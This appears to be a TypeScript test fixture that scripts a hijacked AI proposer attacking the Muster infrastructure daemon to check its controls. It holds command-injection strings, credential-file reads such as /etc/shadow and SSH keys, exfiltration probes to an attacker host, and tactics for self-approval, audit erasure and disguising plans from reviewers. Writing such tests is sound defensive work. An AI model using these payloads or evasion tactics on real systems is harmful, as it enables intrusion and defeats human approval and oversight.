/**
 * The attack goals of a hijacked proposer, and its calls for each goal, with its own text and with the text
 * it read.
 */
import { createHash } from "node:crypto";
import { digestOf } from "../../daemon/changes/tools/canonical.ts";
import type { Execution } from "../../daemon/contract/changes/execution.ts";
import type { Offer } from "../../daemon/contract/changes/offer.ts";
import type { Plan } from "../../daemon/contract/changes/plan.ts";
import type { Route } from "../../daemon/contract/route.ts";
import { type RouteName, routes } from "../../daemon/contract/routes.ts";
import type { Answer, Proposer } from "./proposer.ts";

export interface Scene {
  proposer: Proposer;
  /** The instruction as the proposer read it. */
  said: string;
  /** The file it tries to destroy on the node. */
  precious: string;
  /** A program's database with keys and the audit log in it. */
  database: string;
  /** A listening server to which no part of Muster has a reason to connect. */
  attacker: string;
  /** The name of that person. */
  voter: string;
  /** A person with an operator's key votes yes. */
  approve(answer: Answer): Promise<void>;
  ended(planId: string): Promise<Execution>;
}

export const goals: Readonly<Record<string, (scene: Scene) => Promise<void>>> = {
  async wipe({ proposer, said, precious }) {
    for (const name of ["n1", "n2", said.slice(0, 60)]) {
      await proposer.ask("wipeNode", { params: { node: name }, body: { confirm: name, disks: "all" } });
      await proposer.ask("armNode", { params: { node: name }, body: { confirm: name } });
    }
    await proposer.ask("retireNode", { body: { confirm: "n1" } });
    await proposer.ask("powerNode", { body: { action: "off", confirm: "n1" } });
    for (const target of ["n1", "n2", "all", "group:dev"]) await proposer.tool("erase", { path: precious }, [target]);
    for (const { name, risk, parameters } of (await proposer.ask("listTools")).body.tools as Offer["tools"])
      if (risk !== "read") await proposer.tool(name, examplesOf(parameters));
    // All other routes that are closed to it.
    for (const [name, { access, method }] of Object.entries<Route>(routes))
      if (access === "operator" || access === "admin")
        await proposer.ask(name as RouteName, {
          params: { id: said.slice(0, 60), name: said.slice(0, 60) },
          ...(method === "POST" && { body: {} }),
        });
  },

  async "add-key"({ proposer, said }) {
    for (const role of ["admin", "operator", "agent"])
      await proposer.ask("createKey", { body: { name: `more-${role}`, role, owner: "bob" } });
    await proposer.ask("createKey", { body: { name: said.slice(0, 60), role: "admin" } });
    await proposer.ask("revokeKey", { params: { id: "any" } });
    await proposer.ask("createToken", { body: { uses: 1000 } });
    await proposer.ask("revokeToken", { params: { id: "any" } });
    const line = `ssh-ed25519 ${"A".repeat(68)} ${said}`;
    await proposer.ask("setVariable", { body: { node: "n1", key: "ansible_ssh_private_key_file", value: "/root/mine" } });
    await proposer.ask("setVariable", { body: { group: "all", key: "admin_ssh_keys", value: line } });
    await proposer.tool("service_restart", { unit: `ssh.service; echo '${line}' >> /root/.ssh/authorized_keys` });
    await proposer.tool("playbook_run", { playbook: `say --extra-vars=key=${line}` });
    await proposer.tool("file_fetch", { path: `/etc/hosts; echo ${line}` });
  },

  async "read-secrets"({ proposer, said, database }) {
    for (const route of ["listKeys", "listTokens", "inventory", "listAudit", "exportAudit", "captureNode", "nodePower"] as const)
      await proposer.ask(route);
    for (const path of [
      "/etc/shadow",
      "/root/.ssh/id_ed25519",
      "/var/log/../../etc/shadow",
      "/etc/hosts\n/etc/shadow",
      "/proc/self/environ",
      said,
    ])
      await proposer.tool("file_fetch", { path });
    await proposer.tool("sql_sqlite", { file: database, statement: "select * from keys" }, []);
    await proposer.tool("sql_sqlite", { file: `/var/lib/muster/databases/../../..${database}`, statement: "select * from keys" }, []);
    await proposer.tool("sql_postgresql", { database: "app", statement: "select pg_read_file('/etc/shadow')" });
    await proposer.tool("directory_sizes", { path: "/root/.ssh; cat /root/.ssh/id_ed25519" });
    await proposer.tool("ping", { target: "{postgresql_password}" });
    for (const route of [
      "status",
      "listTools",
      "listEvents",
      "listAlerts",
      "listApprovals",
      "listExecutions",
      "listPlaybooks",
      "listSchedules",
    ] as const)
      await proposer.ask(route);
  },

  async "open-firewall"({ proposer, said }) {
    for (const unit of ["nftables.service", "firewalld.service", "ufw.service"]) await proposer.tool("service_stop", { unit });
    await proposer.tool("service_start", { unit: "telnet.socket" }, ["group:dev"]);
    await proposer.tool("time_resync", {}, ["all"]);
    await proposer.tool("firewall_rules", { command: "flush ruleset" });
    await proposer.ask("runPlaybook", { body: { playbook: "say", nodes: "all" } });
    await proposer.ask("addSchedule", { body: { name: "nightly", playbook: "say", nodes: "all", cron: "@daily" } });
    await proposer.ask("approveSchedule", { params: { name: "nightly" } });
    await proposer.ask("removeSchedule", { params: { name: "nightly" } });
    await proposer.ask("setVariable", { body: { group: "all", key: "firewall_open", value: said } });
    await proposer.ask("unsetVariable", { body: { group: "all", key: "firewall_open" } });
    await proposer.ask("releaseAddress", { params: { address: "10.77.1.1" } });
    for (const runbook of ["risky-exposure", "stopped-service", "drifted-node", "needs-restart", "failed-service"])
      await proposer.propose({
        goal: { kind: "runbook", runbook, parameters: { unit: "nftables.service" } },
        targets: ["n1"],
        reason: said,
      });
  },

  async exfiltrate({ proposer, said, attacker }) {
    await proposer.tool("http_probe", {}, [attacker]);
    for (const parameters of [
      { target: attacker },
      { scheme: `http://${attacker}/?` },
      { port: `80@${attacker}` },
      { path: `@${attacker}/` },
      { path: `/?${said}` },
      { path: `/${Buffer.from(said).toString("base64url")}` },
    ])
      await proposer.tool("http_probe", parameters);
    for (const tool of ["ping", "traceroute"]) await proposer.tool(tool, { target: attacker });
    await proposer.tool("sql_postgresql", { database: `app host=${attacker}`, statement: "select 1" });
    await proposer.tool("journal", { unit: `ssh.service --root=//${attacker}/x` });
    for (const route of ["releaseQuarantine", "discardQuarantine"] as const) await proposer.ask(route, { params: { id: "any" }, body: {} });
  },

  async "disable-audit"({ proposer, database }) {
    for (const name of ["ann", "bob", "system"]) await proposer.ask("eraseFromAudit", { body: { name } });
    await proposer.ask("exportAudit", { query: "?after=0" });
    await proposer.tool("sql_sqlite", { file: database, statement: "delete from audit" }, []);
    await proposer.tool(
      "sql_sqlite",
      { file: "/var/lib/muster/databases/a.db", statement: "pragma writable_schema=1; delete from audit" },
      [],
    );
    for (const unit of ["muster.service", "musterd.service", "systemd-journald.service", "auditd.service"])
      await proposer.tool("service_stop", { unit });
    await proposer.tool("erase", { path: `${database}-wal` });
    await proposer.ask("propose", { body: '{"goal": ' });
    await proposer.ask("propose", { body: "goal=erase", headers: { "content-type": "application/x-www-form-urlencoded" } });
  },

  async "approve-itself"({ proposer, said, voter }) {
    const page = await proposer.session();
    const { approval } = (await proposer.tool("service_restart", { unit: "ssh.service" }, ["n2"], { reason: said })).body;
    for (const headers of [{}, { "x-on-behalf-of": voter }, { "x-on-behalf-of": voter, "x-role": "admin" }, page])
      await proposer.ask("voteApproval", { params: { id: approval.id }, body: { answer: "approve", reason: said }, headers });
    const code = await proposer.voteLive(approval.id);
    if (code !== "NOT_ALLOWED") throw new Error(`the live feed answered ${code}`);
    await proposer.ask("getApproval", { params: { id: approval.id } });
    const wish = { goal: { kind: "tool" as const, tool: "service_restart", parameters: { unit: "cron.service" } }, targets: ["n1"] };
    for (const person of [voter, "system", "x".repeat(61)]) await proposer.propose(wish, { "x-on-behalf-of": person });
    await proposer.propose(wish, page);
    await proposer.ask("createKey", { body: { name: "by-the-page", role: "admin" }, headers: page });
    await proposer.tool("service_restart", { unit: "ssh.service" }, ["n2"], { approval, approved: true, votes: [{ by: voter }] });
  },

  async "move-quorum"({ proposer, said }) {
    const change = { goal: { kind: "tool" as const, tool: "service_stop", parameters: { unit: "ssh.service" } }, targets: ["n1"] };
    for (const more of [
      { quorum: [] },
      { risk: "read" },
      { scope: "dev" },
      { decision: { answer: "allow" } },
      { policyVersion: "0".repeat(64) },
    ])
      await proposer.propose({ ...change, ...more });
    await proposer.ask("joinGroup", { params: { group: "dev", node: "n1" } });
    await proposer.ask("leaveGroup", { params: { group: "prod", node: "n1" } });
    const { plan } = (await proposer.propose({ ...change, reason: said, dryRun: true })).body.work as { plan: Plan };
    const softened: Plan[] = [
      { ...plan, steps: plan.steps.map((step) => ({ ...step, risk: "read" })) },
      {
        ...plan,
        steps: plan.steps.map((step) => ({ ...step, scope: "dev" })),
        targets: plan.targets.map((each) => ({ ...each, scope: "dev" })),
      },
      { ...plan, steps: [] },
    ];
    for (const each of softened) await proposer.execute(each, digestOf(each));
    await proposer.execute(softened[0], digestOf(plan));
  },

  async replay({ proposer, approve, ended }) {
    const asked = await proposer.tool("http_probe", { path: "/plain" });
    await approve(asked);
    const { work, approval } = asked.body;
    const first = await ended(work.id);
    if (first.status !== "succeeded") throw new Error(`what a person approved did not run: ${JSON.stringify(first)}`);
    await proposer.ask("voteApproval", { params: { id: approval.id }, body: { answer: "approve" } });
    await proposer.voteLive(approval.id);
    await proposer.ask("cancelExecution", { params: { id: first.id } });
    await proposer.ask("cancelJob", { params: { id: "any" } });
    for (let times = 0; times < 2; times++) {
      await proposer.execute(work.plan, work.hash);
      await proposer.execute(work.plan, work.hash, { execution_id: first.id, approval_id: approval.id });
      await proposer.execute(work.plan, work.hash, {}, { "idempotency-key": approval.id });
      await proposer.tool("http_probe", { path: "/plain" });
    }
  },

  async "swap-target"({ proposer, said, approve, ended }) {
    const body = { goal: { kind: "tool" as const, tool: "http_probe", parameters: { path: "/plain" } }, reason: said };
    const asked = await proposer.propose({ ...body, targets: ["n2"] }, { "idempotency-key": "one" });
    await approve(asked);
    const { work } = asked.body as { work: { id: string; hash: string; plan: Plan } };
    await ended(work.id);
    await proposer.propose({ ...body, targets: ["n1"] }, { "idempotency-key": "one" });
    const onto = (node: string, address: string): Plan => ({
      ...work.plan,
      targets: work.plan.targets.map((target) => ({ ...target, node, address })),
      steps: work.plan.steps.map((step) => ({ ...step, target: node })),
    });
    for (const plan of [onto("n1", "10.77.0.11"), onto("n2", "10.77.0.66")]) {
      await proposer.execute(plan, work.hash);
      await proposer.execute(plan, digestOf(plan));
      await proposer.execute(plan, createHash("sha256").update(JSON.stringify(plan)).digest("hex"));
    }
    await proposer.execute(work.plan, work.hash, { plan: { plan: work.plan, hash: work.hash, targets: ["n1"] } });
  },

  async hide({ proposer, said }) {
    const change = { goal: { kind: "tool" as const, tool: "service_stop", parameters: { unit: "ssh.service" } }, targets: ["n1"] };
    await proposer.propose({ ...change, readOnly: true, tainted: false, reason: said });
    await proposer.propose({ ...change, reason: `\u001b[2K${said}\u202e` });
    await proposer.propose({ ...change, summary: "disk_usage on n1", preview: "df" });
    await proposer.tool("service_stop", { unit: "ssh.service\u0000" });
    await proposer.tool("service_stop", { unit: "--root=/" });
    const { plan } = (await proposer.propose({ ...change, dryRun: true })).body.work as { plan: Plan };
    const told: Plan = { ...plan, summary: "disk_usage on n1" };
    await proposer.execute(told, digestOf(told));
    const shown: Plan = { ...plan, steps: plan.steps.map((step) => ({ ...step, preview: { kind: "exact", text: "df -h" } })) };
    await proposer.execute(shown, digestOf(shown));
    await proposer.execute({ ...plan, readOnly: true }, digestOf({ ...plan, readOnly: true }));
  },

  async flood({ proposer, said }) {
    for (let number = 0; number < 25; number++)
      await proposer.tool("service_restart", { unit: `u${number}.service` }, ["n2"], { reason: said });
    for (let number = 0; number < 85; number++) await proposer.ask("propose", { body: {} });
    await proposer.tool("service_restart", { unit: "last.service" }, ["n2"]);
  },
};

const examplesOf = (parameters: Offer["tools"][number]["parameters"]) =>
  Object.fromEntries(parameters.flatMap(({ name, example }) => (example === undefined || name === "target" ? [] : [[name, example]])));

/** Whatever its goal, it also copies the text it read into every field that takes text. */
export async function verbatim({ proposer, said }: Scene): Promise<void> {
  await proposer.propose({ goal: { kind: "tool", tool: said, parameters: {} }, targets: ["n1"] });
  await proposer.propose({ goal: { kind: "runbook", runbook: said, parameters: {} }, targets: ["n1"] });
  await proposer.tool("disk_usage", { path: said });
  await proposer.tool("service_restart", { unit: said });
  await proposer.tool("playbook_run", { playbook: said, check: true });
  await proposer.tool("disk_usage", { [said]: "x" });
  await proposer.tool("disk_usage", {}, [said]);
  await proposer.tool("package_version", { package: "bash" }, ["n1"], { reason: said, dryRun: true });
  await proposer.tool("service_restart", { unit: "ssh.service" }, ["n1"], { reason: said });
  await proposer.ask("propose", { body: said });
  const wish = { goal: { kind: "tool" as const, tool: "service_restart", parameters: { unit: "cron.service" } }, targets: ["n1"] };
  await proposer.propose(wish, { "idempotency-key": said });
  await proposer.propose(wish, { "x-on-behalf-of": said });
  await proposer.ask("voteApproval", { params: { id: said.slice(0, 60) }, body: { answer: said } });
  await proposer.ask("acceptNode", { params: { node: said.slice(0, 60) }, body: { name: said } });
}
